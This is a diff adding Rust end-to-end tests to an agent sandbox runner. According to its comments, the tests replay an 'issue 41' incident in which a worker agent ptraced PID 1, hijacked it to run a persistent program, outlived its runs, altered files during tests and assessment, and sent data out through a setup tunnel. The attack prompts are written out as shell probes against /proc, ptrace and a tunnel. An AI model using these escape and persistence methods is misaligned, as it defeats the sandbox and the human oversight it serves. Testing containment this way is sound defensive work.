@@ -1281,3 +1281,213 @@ fn a_snapshot_that_hangs_before_a_run_is_stopped_before_the_agent() {
     );
     assert_no_container(&id);
 }
+
+/// The repository of an issue-41 attack: `pid1-probe` in it (as a worker would have
+/// built it), and `leftover.sh`, a program that tells every later run, test run and
+/// assessment that it is alive by growing `leftover.log` (what the round's process
+/// did while it swapped codex for a wrapper right after each pin check).
+fn pid1_repo(dir: &Scratch) -> std::path::PathBuf {
+    let repo = dir.join("repo");
+    support::git_repo(&repo, "a.txt", "original\n");
+    std::fs::copy(support::pid1_probe(), repo.join("pid1-probe")).unwrap();
+    let leftover = repo.join("leftover.sh");
+    std::fs::write(
+        &leftover,
+        "#!/bin/sh\nwhile :; do echo alive >> /workspace/project/leftover.log; sleep 0.2; done\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(&leftover, std::fs::Permissions::from_mode(0o755)).unwrap();
+    repo
+}
+
+/// A command that says whether something still grows `files` (a leftover of an
+/// earlier run): "leftover-check <lines> <lines 1.5 s later>".
+fn leftover_check(files: &str) -> String {
+    format!(
+        "a=$(cat {files} 2>/dev/null | wc -l); sleep 1.5; b=$(cat {files} 2>/dev/null | wc -l); echo leftover-check $a $b"
+    )
+}
+
+/// The "leftover-check A B" lines of a log (JSON-escaped output or plain).
+fn leftover_checks(log: &str) -> Vec<(u32, u32)> {
+    log.split("leftover-check ")
+        .skip(1)
+        .filter_map(|rest| {
+            // "<digits> <digits>" right after it: not the command's own text.
+            let mut numbers = rest.splitn(3, |c: char| !c.is_ascii_digit());
+            Some((numbers.next()?.parse().ok()?, numbers.next()?.parse().ok()?))
+        })
+        .collect()
+}
+
+fn log_of(repo: &Path, id: &str, name: &str) -> String {
+    std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/{name}")))
+        .unwrap_or_else(|e| panic!("{name}: {e}"))
+}
+
+/// Issue 41 (finding 1): the worker `ptrace`d PID 1 (docker-init) and the carrier.
+/// Neither `ptrace` nor `process_vm_readv`/`writev` reaches them, nor any process.
+#[test]
+fn ptrace_of_pid_1_and_the_carrier_is_refused() {
+    let dir = Scratch::new("bnd-ptrace");
+    let repo = pid1_repo(&dir);
+    let id = task_id("bnd-ptrace");
+    let attack = "@run: ./pid1-probe ptrace 1; ./pid1-probe ptrace carrier; ./pid1-probe vm 1; ./pid1-probe vm carrier\n\
+                  @run: sleep 30 & ./pid1-probe ptrace $!; ./pid1-probe vm $!; kill $!\n@say: tried";
+    let (out, _server) = run_prompts(e2e_task(&id, &repo), &[attack]);
+    out.code(0);
+    let log = log_of(&repo, &id, "run-1.log");
+    let lines: Vec<&str> = log
+        .split("\\n")
+        .filter_map(|l| l.rsplit_once("pid1-probe ").map(|(_, rest)| rest))
+        .filter(|l| l.contains(": refused") || l.contains(": allowed"))
+        .collect();
+    // ptrace, vm-read and vm-write of PID 1, the carrier and a process of its own.
+    assert_eq!(lines.len(), 9, "{log}");
+    for line in lines {
+        assert!(line.contains(": refused ("), "{line}\n{log}");
+    }
+    assert_no_container(&id);
+}
+
+/// Issue 41: what `ptrace` refused, `/proc/<pid>/mem` gave: the same user may
+/// write another's memory there. PID 1 and the carrier are non-dumpable, so their
+/// memory, root, environment and descriptors are closed to the worker, root or not
+/// (nor can it write on PID 1's stdout, where agent-runner reads its answers).
+#[test]
+fn the_memory_of_pid_1_and_the_carrier_cannot_be_opened() {
+    let dir = Scratch::new("bnd-mem");
+    let repo = pid1_repo(&dir);
+    let id = task_id("bnd-mem");
+    let attack = "@run: ./pid1-probe mem 1; ./pid1-probe mem carrier\n\
+                  @run: ls /proc/1/root/ >/dev/null 2>&1; echo proc-root=$?; cat /proc/1/environ >/dev/null 2>&1; echo proc-environ=$?; echo agent-runner-quiet 0 0 2>/dev/null > /proc/1/fd/1; echo proc-fd=$?\n\
+                  @say: tried";
+    let (out, _server) = run_prompts(e2e_task(&id, &repo), &[attack]);
+    out.code(0);
+    let log = log_of(&repo, &id, "run-1.log");
+    for refused in [
+        "pid1-probe mem 1: refused (Permission denied)",
+        "pid1-probe mem carrier: refused (Permission denied)",
+    ] {
+        assert!(log.contains(refused), "{refused}:\n{log}");
+    }
+    for closed in ["proc-root=", "proc-environ=", "proc-fd="] {
+        assert!(
+            !log.contains(&format!("{closed}0")),
+            "{closed} is open to the worker:\n{log}"
+        );
+    }
+    assert_no_container(&id);
+}
+
+/// Issue 41: the worker made PID 1 (and the carrier) run its own program through
+/// their memory, which the stop pass after each run spares; it outlived every run,
+/// swapped codex after each pin check, and wrote into the repository while the
+/// tests ran and Meta assessed. Here the program grows `leftover.log`: nothing may
+/// grow it after run 1, not during run 2, not during the test runs, not after.
+#[test]
+fn a_program_pid_1_was_made_to_run_does_not_outlive_the_run() {
+    let dir = Scratch::new("bnd-hijack");
+    let repo = pid1_repo(&dir);
+    let id = task_id("bnd-hijack");
+    let attack = "@run: ./pid1-probe hijack 1 /workspace/project/leftover.sh; ./pid1-probe hijack carrier /workspace/project/leftover.sh; sleep 1\n@say: took over";
+    let check = format!("@run: {}\n@say: looked", leftover_check("leftover.log"));
+    let task = e2e_task(&id, &repo).test(leftover_check("leftover.log").as_str());
+    let (out, _server) = run_prompts(task, &[attack, &check]);
+    let lines_after = std::fs::read_to_string(repo.join("leftover.log")).unwrap_or_default();
+    std::thread::sleep(Duration::from_secs(1));
+    let lines_later = std::fs::read_to_string(repo.join("leftover.log")).unwrap_or_default();
+    out.code(0);
+    let run_1 = log_of(&repo, &id, "run-1.log");
+    for refused in [
+        "pid1-probe hijack 1: refused",
+        "pid1-probe hijack carrier: refused",
+    ] {
+        assert!(run_1.contains(refused), "{refused}:\n{run_1}");
+    }
+    let run_2 = log_of(&repo, &id, "run-2.log");
+    let in_run_2 = leftover_checks(&run_2);
+    assert_eq!(in_run_2.len(), 1, "{run_2}");
+    assert_eq!(in_run_2[0].0, in_run_2[0].1, "alive in run 2:\n{run_2}");
+    for n in 1..=2 {
+        let test = log_of(&repo, &id, &format!("test-{n}.log"));
+        let checks = leftover_checks(&test);
+        assert_eq!(checks.len(), 1, "{test}");
+        assert_eq!(checks[0].0, checks[0].1, "alive in test run {n}:\n{test}");
+    }
+    assert_eq!(lines_after, lines_later, "alive after the task");
+    assert_no_container(&id);
+}
+
+/// Issue 41: a process that ends its thread group's leader alone while a thread of
+/// it goes on shows as a zombie, which the stop pass skipped; it kept writing into
+/// the repository after the run (with a double fork and `setsid` on top).
+#[test]
+fn a_process_whose_leader_ended_does_not_outlive_the_run() {
+    let dir = Scratch::new("bnd-linger");
+    let repo = pid1_repo(&dir);
+    let id = task_id("bnd-linger");
+    let attack = "@run: ./pid1-probe linger /workspace/project/linger.log; sleep 1\n@say: left it";
+    let check = format!("@run: {}\n@say: looked", leftover_check("linger.log"));
+    let task = e2e_task(&id, &repo).test(leftover_check("linger.log").as_str());
+    let (out, _server) = run_prompts(task, &[attack, &check]);
+    out.code(0);
+    let run_1 = log_of(&repo, &id, "run-1.log");
+    assert!(
+        run_1.contains("pid1-probe linger /workspace/project/linger.log: allowed"),
+        "{run_1}"
+    );
+    assert!(
+        std::fs::read_to_string(repo.join("linger.log")).is_ok_and(|l| l.contains("alive")),
+        "it ran during run 1"
+    );
+    let run_2 = log_of(&repo, &id, "run-2.log");
+    let in_run_2 = leftover_checks(&run_2);
+    assert_eq!(in_run_2.len(), 1, "{run_2}");
+    assert_eq!(in_run_2[0].0, in_run_2[0].1, "alive in run 2:\n{run_2}");
+    for n in 1..=2 {
+        let test = log_of(&repo, &id, &format!("test-{n}.log"));
+        let checks = leftover_checks(&test);
+        assert_eq!(checks.len(), 1, "{test}");
+        assert_eq!(checks[0].0, checks[0].1, "alive in test run {n}:\n{test}");
+    }
+    assert_no_container(&id);
+}
+
+/// Issue 41: a tunnel to a setup-only host, opened during setup by a process that
+/// outlived it (PID 1 made to run it), carried the worker's data there after
+/// setup, while the worker's own connection to that host got 403.
+#[test]
+fn a_tunnel_setup_opened_does_not_carry_the_workers_data() {
+    let site = support::destination::Destination::start("packages", "127.0.0.2");
+    let dir = Scratch::new("bnd-tunnel");
+    let repo = pid1_repo(&dir);
+    let id = task_id("bnd-tunnel");
+    let to = site.authority();
+    let setup = format!(
+        "mkfifo /tmp/up; printf 'tunnel\\n3128\\n{to}\\n/tmp/up\\n' > /tmp/pid1-probe-args; \
+         ./pid1-probe hijack 1 /workspace/project/pid1-probe; ./pid1-probe linger /tmp/linger.log; \
+         (./pid1-probe tunnel 3128 {to} /tmp/up &); sleep 1"
+    );
+    let attack = format!(
+        "@run: timeout 3 sh -c \"printf 'GET /exfiltrated HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n' > /tmp/up\"; echo fifo=$?\n\
+         @run: wget -q -O - http://{to}/direct 2>&1; echo direct=$?\n@say: sent"
+    );
+    let task = e2e_task(&id, &repo)
+        .set("runner.worker.network", "allowlist")
+        .set("task.setup.command", setup)
+        .set("task.setup.allow", [to.clone()]);
+    let tmp = Scratch::new("bnd-tunnel-tmp");
+    let (run, _server) = prompts_task(task, &[&attack]);
+    let out = run.env("TMPDIR", &tmp.path).output();
+    out.code(0);
+    std::thread::sleep(Duration::from_millis(500));
+    let heads = site.heads();
+    assert!(
+        !heads.iter().any(|h| h.contains("exfiltrated")),
+        "the worker's data went through setup's tunnel: {heads:?}"
+    );
+    let run_1 = log_of(&repo, &id, "run-1.log");
+    assert!(run_1.contains("403"), "the worker's own connection: {run_1}");
+    assert_no_container(&id);
+}
